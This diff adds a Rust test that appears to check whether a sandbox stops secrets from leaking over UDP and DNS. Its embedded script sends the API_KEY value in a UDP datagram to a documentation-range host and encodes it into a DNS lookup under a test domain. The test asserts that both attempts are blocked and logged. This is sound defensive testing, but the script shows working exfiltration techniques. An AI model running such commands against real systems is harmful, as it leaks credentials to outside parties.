@@ -217,3 +217,49 @@ fn block_and_log_warns_and_block_and_terminate_stops_the_sandbox() {
             .any(|l| l["path"].as_str().is_some_and(|p| p.starts_with("/leak")))
     );
 }
+
+#[test]
+fn nor_in_a_datagram_or_a_dns_name() {
+    let w = World::new();
+    let script = r#"
+python3 - "$API_KEY" <<'PY'
+import socket, sys
+p = sys.argv[1]
+for payload in (b"clean datagram", ("token=" + p).encode()):
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.settimeout(2)
+    u.connect(("203.0.113.10", 7777))
+    u.send(payload)
+    try:
+        print("udp", payload[:5], "echoed", len(u.recv(200)))
+    except OSError:
+        print("udp", payload[:5], "silent")
+PY
+getent hosts "$(printf '%s' "$API_KEY" | tr a-z A-Z).other.example.test" || echo "lookup refused"
+getent hosts api.example.test >/dev/null && echo "lookup fine"
+"#;
+    let (out, events, audit) = run(&w, &[], script);
+    let text = stdout(&out);
+    assert!(
+        text.contains("udp b'clean' echoed"),
+        "{text}\n{}",
+        stderr(&out)
+    );
+    assert!(text.contains("udp b'token' silent"), "{text}");
+    assert!(
+        text.contains("lookup refused") && text.contains("lookup fine"),
+        "{text}"
+    );
+    let v = violations(&events);
+    assert!(v.iter().any(|e| e["proto"] == "udp"), "{v:?}");
+    assert!(v.iter().any(|e| e["proto"] == "dns"), "{v:?}");
+    // Neither reached the world.
+    assert!(
+        !w.log()
+            .iter()
+            .any(|l| l.to_string().to_ascii_lowercase().contains("moat_")),
+        "{:?}",
+        w.log()
+    );
+    assert!(!audit.contains(VALUE));
+}
